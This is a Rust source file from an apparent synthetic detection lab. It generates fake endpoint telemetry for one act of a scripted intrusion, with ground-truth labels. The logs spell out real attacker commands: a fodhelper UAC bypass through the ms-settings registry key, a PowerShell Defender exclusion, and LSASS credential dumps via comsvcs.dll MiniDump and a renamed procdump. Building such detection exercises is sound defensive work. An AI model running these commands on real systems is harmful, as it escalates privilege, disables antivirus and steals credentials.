//! Act 6, Thursday 6 March, 14:03 to 14:20: past the elevation prompt, past the antivirus, and the memory of LSASS.

use super::Story;
use crate::lab::catalog::Hashes;
use crate::lab::clock::{MILLISECOND, MINUTE, SECOND, march};
use crate::lab::noise::event::{event, open_process};
use crate::lab::noise::file::{FileEvent, touch};
use crate::lab::noise::image::load;
use crate::lab::noise::process::conhost;
use crate::lab::noise::registry::set_value;
use crate::lab::process::{Integrity, Launch, ProcessId};
use crate::lab::rng::Rng;
use crate::lab::truth::Step;
use crate::lab::world::{T, World};

const BYPASS: Step = Step::new("act6", "T1548.002");
const BLIND: Step = Step::new("act6", "T1562.001");
const DUMP: Step = Step::new("act6", "T1003.001");
pub(in crate::lab) const FOLDER: &str = r"C:\ProgramData\HFLogs";
pub(in crate::lab) const TOOL: &str = "hlperf64.exe";
/// Every right there is.
const ALL_ACCESS: i64 = 0x1f_ffff;

pub(super) fn elevate(world: &mut World, story: &mut Story) {
    let mut rng = Rng::stream("story", "act 6");
    let at = march(6, 14, 3, 22) + 5_190_337;
    let sid = world.org.users[story.user].sid.clone();
    let key = format!(r"HKEY_USERS\{sid}_Classes\ms-settings\shell\open\command");
    set_value(world, story.implant, at, &key, ("", "String", r"C:\windows\system32\cmd.exe"));
    world.mark(T::DeviceRegistryEvents, BYPASS, "the handler of settings pages becomes a shell");
    set_value(world, story.implant, at + 40 * MILLISECOND, &key, ("DelegateExecute", "String", ""));
    world.mark(T::DeviceRegistryEvents, BYPASS, "and is made to count");

    let at = at + 310 * MILLISECOND;
    let helper = Launch::new("fodhelper.exe", "\"C:\\windows\\system32\\fodhelper.exe\" ", 20 * SECOND)
        .integrity(Integrity::High);
    let helper = world.spawn(story.implant, at, &helper);
    world.mark(T::DeviceProcessEvents, BYPASS, "a program that elevates without asking");
    let at = at + 480 * MILLISECOND;
    let shell = world.spawn(helper, at, &Launch::new("cmd.exe", "\"C:\\windows\\system32\\cmd.exe\" ", 40 * MINUTE));
    world.mark(T::DeviceProcessEvents, BYPASS, "starts the shell at high integrity in less than a second");
    conhost(world, &mut rng, shell, at);
    story.bypass = Some(shell);

    exclude(world, &mut rng, story, shell);
    dump(world, story, shell);
    quarantine(world, story, shell);
}

fn exclude(world: &mut World, rng: &mut Rng, story: &mut Story, shell: ProcessId) {
    let at = march(6, 14, 7, 51) + 2_233_048;
    let command = format!("powershell.exe -NoProfile Add-MpPreference -ExclusionPath {FOLDER}");
    let powershell = world.spawn(shell, at, &Launch::new("powershell.exe", command, 6 * SECOND));
    world.mark(T::DeviceProcessEvents, BLIND, "a folder is hidden from the antivirus");
    conhost(world, rng, powershell, at);
    story.exclusion = Some(powershell);
    let Some(boot) = world.boot(story.device, at) else { return };
    let key = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths";
    set_value(world, boot.defender, at + 900 * MILLISECOND, key, (FOLDER, "Dword", "0"));
    world.mark(T::DeviceRegistryEvents, BLIND, "the antivirus notes the exclusion");
}

fn dump(world: &mut World, story: &mut Story, shell: ProcessId) {
    let at = march(6, 14, 12, 6) + 8_450_902;
    let Some(boot) = world.boot(story.device, at) else { return };
    let lsass = world.process(boot.lsass).pid;
    let command =
        format!("rundll32.exe  C:\\windows\\system32\\comsvcs.dll, MiniDump {lsass} {FOLDER}\\hf0603.log full");
    let dump = world.spawn(shell, at, &Launch::new("rundll32.exe", command, 9 * SECOND));
    world.mark(T::DeviceProcessEvents, DUMP, "a system library is asked to dump LSASS");
    story.dump = Some(dump);
    load(world, dump, at + 50 * MILLISECOND, "comsvcs.dll");
    world.mark(T::DeviceImageLoadEvents, DUMP, "the library that can dump");
    load(world, dump, at + 80 * MILLISECOND, "dbgcore.dll");
    world.mark(T::DeviceImageLoadEvents, DUMP, "and the one it needs for it");
    open_process(world, dump, boot.lsass, at + 120 * MILLISECOND, ALL_ACCESS);
    world.mark(T::DeviceEvents, DUMP, "LSASS is opened with every right");
    let file = FileEvent { action: "FileCreated", folder: FOLDER, name: "hf0603.log", hashes: None };
    touch(world, dump, at + 4 * SECOND, &file).set("FileSize", 61_862_304_i64);
    world.mark(T::DeviceFileEvents, DUMP, "the dump, named like a log");
}

/// A second try with a renamed tool is noticed, once.
fn quarantine(world: &mut World, story: &mut Story, shell: ProcessId) {
    let at = march(6, 14, 17, 33) + 1_005_488;
    let Some(image) = world.image("procdump.exe") else { return };
    let folder = r"C:\ProgramData";
    let hashes = Hashes { sha1: image.sha1, sha256: image.sha256, md5: image.md5, size: image.size };
    touch(world, story.implant, at, &FileEvent { action: "FileCreated", folder, name: TOOL, hashes: Some(hashes) });
    world.mark(T::DeviceFileEvents, DUMP, "a dump tool under another name");
    let at = at + 21 * SECOND;
    let launch =
        Launch::new("procdump.exe", format!("{folder}\\{TOOL}  -accepteula -ma lsass.exe {FOLDER}\\p.log"), 2 * SECOND)
            .disguise(TOOL, folder);
    let tool = world.spawn(shell, at, &launch);
    world.mark(T::DeviceProcessEvents, DUMP, "its version resource keeps the old name");
    story.tool = Some(tool);
    let Some(boot) = world.boot(story.device, at) else { return };
    open_process(world, tool, boot.lsass, at + 200 * MILLISECOND, ALL_ACCESS);
    world.mark(T::DeviceEvents, DUMP, "LSASS is opened with every right");
    event(world, boot.defender, at + 600 * MILLISECOND, "AntivirusDetection")
        .set("FileName", TOOL)
        .set("FolderPath", format!("{folder}\\{TOOL}"))
        .set("SHA1", image.sha1)
        .set("SHA256", image.sha256)
        .set("MD5", image.md5)
        .set("AdditionalFields", r#"{"ThreatName":"HackTool:Win32/LabDump.A","WasRemediated":true,"WasExecutingWhileDetected":true,"Action":"Quarantine"}"#);
    world.mark(T::DeviceEvents, DUMP, "detected and quarantined");
    let file = FileEvent { action: "FileDeleted", folder, name: TOOL, hashes: Some(hashes) };
    touch(world, boot.defender, at + 900 * MILLISECOND, &file);
    world.mark(T::DeviceFileEvents, DUMP, "taken away by the antivirus");
}
